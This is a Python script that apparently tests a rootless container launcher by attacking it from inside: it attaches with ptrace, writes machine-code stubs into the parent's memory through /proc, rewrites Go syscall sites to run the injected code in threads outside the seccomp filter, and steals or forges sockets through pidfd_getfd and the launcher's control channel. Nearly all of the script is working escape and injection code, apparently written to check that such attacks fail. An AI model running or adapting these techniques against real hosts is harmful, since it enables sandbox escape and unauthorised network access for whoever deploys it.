"""Attacks of a command on the launcher's inner half, which it would have act in its place.

usage: owning.py NAME TARGET PORT
TARGET is a port of the host's 127.0.0.1 that the command shall not reach. The last
line says what came of the tries: "attacked TRIES RESULT=COUNT ...".
"""
import array
import collections
import ctypes
import errno
import json
import os
import select
import signal
import socket
import struct
import sys
import threading
import time

NAME = sys.argv[1]
TARGET, PORT = map(int, sys.argv[2:])
ROUNDS = 100
PTRACE_SINGLESTEP, PTRACE_GETREGS, PTRACE_SETREGS, PTRACE_ATTACH, PTRACE_DETACH = 9, 12, 13, 16, 17
SYS_CLOSE, SYS_MMAP, SYS_CONNECT, SYS_PRCTL, SYS_PIDFD_OPEN, SYS_PIDFD_GETFD = 3, 9, 42, 157, 434, 438
WALL = 0x40000000

libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
libc.ptrace.restype = ctypes.c_long
results = collections.Counter()
child = os.getppid()


def check(rc, number=None):
    if rc < 0:
        number = number or ctypes.get_errno()
        raise OSError(number, os.strerror(number))
    return rc


def ptrace(request, tid, data=None):
    return check(libc.ptrace(request, tid, None, data))


class Regs(ctypes.Structure):
    """struct user_regs_struct of x86-64"""
    _fields_ = [(n, ctypes.c_ulonglong) for n in (
        "r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi orig_rax rip cs eflags rsp ss fs_base gs_base ds es fs gs").split()]


class Thread:
    """a thread of the child that makes a system call for us"""

    def __init__(self, tid):
        self.tid = tid
        ptrace(PTRACE_ATTACH, tid)
        os.waitpid(tid, WALL)

    def call(self, at, number, *args):
        saved = Regs()
        ptrace(PTRACE_GETREGS, self.tid, ctypes.byref(saved))
        regs = Regs.from_buffer_copy(saved)
        regs.rax, regs.orig_rax, regs.rip = number, 2**64 - 1, at
        for name, value in zip(("rdi", "rsi", "rdx", "r10", "r8", "r9"), args):
            setattr(regs, name, value % 2**64)
        ptrace(PTRACE_SETREGS, self.tid, ctypes.byref(regs))
        ptrace(PTRACE_SINGLESTEP, self.tid)
        os.waitpid(self.tid, WALL)
        ptrace(PTRACE_GETREGS, self.tid, ctypes.byref(regs))
        ptrace(PTRACE_SETREGS, self.tid, ctypes.byref(saved))
        return ctypes.c_longlong(regs.rax).value

    def release(self):
        ptrace(PTRACE_DETACH, self.tid)


# After each system call Go compares its result: "syscall; cmp $-4095, %rax".
SYSCALL_SITE = bytes.fromhex("0f05483d01f0ffff")


class Injection:
    """code in the child that any of its threads runs which no filter is on"""

    def __init__(self):
        main = Thread(child)
        self.memory = os.open(f"/proc/{child}/mem", os.O_RDWR)
        sites = list(self.sites())
        # PROT_READ|PROT_WRITE|PROT_EXEC, MAP_PRIVATE|MAP_ANONYMOUS|MAP_32BIT: jumps reach it
        self.page = main.call(sites[0], SYS_MMAP, 0, 4096, 7, 0x62, -1, 0)
        main.release()
        for i, site in enumerate(sites):
            stub = self.page + 2048 + 32 * i
            back = site + len(SYSCALL_SITE)
            self.write(stub, b"\xe8" + relative(stub + 5, self.page + 64) + SYSCALL_SITE[2:] + b"\xe9" + relative(stub + 16, back))
            self.write(site, SYSCALL_SITE[:2] + b"\xe9" + relative(site + 7, stub) + b"\x90")

    def sites(self):
        for line in open(f"/proc/{child}/maps"):
            span, mode = line.split()[:2]
            if mode[:3] != "r-x" or "rootlesskit" not in line:
                continue
            start, end = (int(x, 16) for x in span.split("-"))
            text = os.pread(self.memory, end - start, start)
            at = text.find(SYSCALL_SITE)
            while at >= 0:
                yield start + at
                at = text.find(SYSCALL_SITE, at + 1)

    def write(self, at, data):
        os.pwrite(self.memory, data, at)

    def connect(self, fd, *addresses):
        """has the child take our socket and connect it"""
        code = b"\x50\x51\x52\x53\x56\x57\x41\x50\x41\x51\x41\x52\x41\x53\x41\x54"  # push
        done = b"\x41\x5c\x41\x5b\x41\x5a\x41\x59\x41\x58\x5f\x5e\x5b\x5a\x59\x58\xc3"  # pop; ret
        work = call(SYS_PIDFD_OPEN, os.getpid(), 0) + b"\x48\x89\xc7\x49\x89\xc4"  # mov %rax, %rdi; mov %rax, %r12
        work += call(SYS_PIDFD_GETFD, None, fd, 0) + b"\x48\x89\xc7"
        for i, address in enumerate(addresses):
            self.write(self.page + 3072 + 16 * i, address)
            work += call(SYS_CONNECT, None, self.page + 3072 + 16 * i, len(address))
        work += b"\x48\x89\x43\x08"  # mov %rax, 8(%rbx): the result
        work += call(SYS_CLOSE) + b"\x4c\x89\xe7" + call(SYS_CLOSE) + b"\xc7\x03\x03\0\0\0"  # movl $3, (%rbx)
        other = b"\xc7\x03\x01\0\0\0" + jump(b"\xe9", len(work))  # movl $1, (%rbx): left to another thread
        work = call(SYS_PRCTL, 21) + b"\x85\xc0\x74" + bytes([len(other)]) + other + work  # PR_GET_SECCOMP
        claim = b"\x48\xbb" + struct.pack("=Q", self.page) + b"\xb8\x01\0\0\0\xb9\x02\0\0\0\xf0\x0f\xb1\x0b"  # lock cmpxchg
        self.write(self.page + 64, code + claim + jump(b"\x0f\x85", len(work)) + work + done)
        self.write(self.page, struct.pack("=Qq", 1, 0))
        while True:
            os.kill(child, signal.SIGWINCH)  # that it makes system calls
            state, result = struct.unpack("=Qq", os.pread(self.memory, 16, self.page))
            if state == 3:
                return check(result, -result)
            time.sleep(0.001)


def relative(end, to):
    return struct.pack("=i", to - end)


def jump(opcode, distance):
    return opcode + struct.pack("=i", distance)


def call(number, *args):
    code = b""
    for load, value in zip((b"\x48\xbf", b"\x48\xbe", b"\x48\xba"), args):
        if value is not None:
            code += load + struct.pack("=Q", value)
    return code + b"\xb8" + struct.pack("=I", number) + b"\x0f\x05"


def host_socket():
    """a socket of the host that could be connected: it no longer listens"""
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(("0.0.0.0", 80))
    s.listen(100)
    if s.getsockname()[1] != PORT:
        sys.exit(f"the server has port {s.getsockname()[1]}, not the host's")
    s.shutdown(socket.SHUT_RDWR)
    print("native", flush=True)
    return s


def injected():
    """has an unfiltered thread of the child take the socket of the host and connect it"""
    host = host_socket()
    address = struct.pack("=H", socket.AF_INET) + struct.pack("!H4s8x", TARGET, socket.inet_aton("127.0.0.1"))
    unspec = struct.pack("=H14x", socket.AF_UNSPEC)
    injection = None
    for _ in range(ROUNDS):

        def connect():
            nonlocal injection
            injection = injection or Injection()
            injection.connect(host.fileno(), unspec, address)

        attempt(connect)


def attempt(f):
    try:
        f()
        results["OK"] += 1
    except OSError as e:
        results[errno.errorcode[e.errno]] += 1


def taken(pid, fd):
    pidfd = os.pidfd_open(pid)
    try:
        return check(libc.syscall(SYS_PIDFD_GETFD, pidfd, fd, 0))
    finally:
        os.close(pidfd)


def wire():
    """the child's end of what it is told by"""
    for fd in range(3, 64):
        try:
            s = socket.socket(fileno=taken(child, fd))
        except OSError as e:
            if e.errno in (errno.EBADF, errno.ENOTSOCK):
                continue
            raise
        if s.family == socket.AF_UNIX and s.type & 0xf == socket.SOCK_SEQPACKET:
            return s
    sys.exit("the child has no wire")


def read():
    """opens what shows or gives the memory and the descriptors of the child"""
    for _ in range(ROUNDS):
        for path in "mem", "maps", "environ", "fd/0", "root/", "cwd/":
            attempt(lambda: os.close(os.open(f"/proc/{child}/{path}", os.O_RDONLY)))
        attempt(lambda: os.close(os.open(f"/proc/{child}/mem", os.O_RDWR)))
        attempt(lambda: os.close(taken(child, 0)))
        attempt(lambda: Thread(child).release())


def forge_host():
    """answers in the child's place, with sockets of the host: ours, or accepted by an inherited one and disconnected"""
    inherited = socket.socket(fileno=3)
    inherited.setblocking(True)
    if namespace(socket.socket()) == namespace(inherited):
        forge(lambda: socket.socket(type=socket.SOCK_STREAM | socket.SOCK_NONBLOCK).detach())
    forge(lambda: disconnected(inherited.accept()[0]))


def disconnected(s):
    check(libc.connect(s.fileno(), struct.pack("=H14x", socket.AF_UNSPEC), 16))
    s.setblocking(False)
    return s.detach()


def namespace(s):
    return s.getsockopt(socket.SOL_SOCKET, 71, 8)  # SO_NETNS_COOKIE


def forge_own():
    """answers in the child's place, with sockets as the child would send, which reach a server here"""
    server = socket.create_server(("127.0.0.1", TARGET), backlog=1000)
    threading.Thread(target=serve, args=(server,), daemon=True).start()
    forge(lambda: socket.socket(type=socket.SOCK_STREAM | socket.SOCK_NONBLOCK).detach())


def serve(server):
    while True:
        c, _ = server.accept()
        try:
            c.sendall(b"inside")
        except ConnectionError:
            pass  # the client was tired of waiting
        c.close()


def forge_others():
    """answers with sockets of another kind"""
    forge(lambda: socket.socket(type=socket.SOCK_DGRAM).detach())


def forge(make):
    os.kill(child, signal.SIGSTOP)
    w = wire()
    print("forging", flush=True)
    while True:
        select.select([w], [], [])
        request = json.loads(w.recv(65536))
        answer = {"kind": "reply", "id": request["id"]}
        sockets = []
        if request["kind"] == "netns.sockets":
            answer["body"] = {}
            sockets = [make() for _ in range(request["body"]["count"])]
            results["OK"] += len(sockets)
        else:
            answer["error"] = "not now"
        control = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", sockets))] if sockets else []
        w.sendmsg([json.dumps(answer).encode()], control)
        for fd in sockets:
            os.close(fd)
        print("forged", results["OK"], flush=True)


def outsiders():
    """tries to trace whatever is not one of ours"""
    ours = {os.getpid()}
    for pid in map(int, filter(str.isdigit, os.listdir("/proc"))):
        if pid in ours:
            continue
        try:
            name = open(f"/proc/{pid}/comm").read().strip()
            os.close(os.open(f"/proc/{pid}/mem", os.O_RDWR))
            print("traceable", "child" if pid == child else name, flush=True)
            results["OK"] += 1
        except OSError as e:
            results[errno.errorcode[e.errno]] += 1


globals()[NAME]()
print("attacked", results.total(), *(f"{result}={n}" for result, n in results.items()), flush=True)
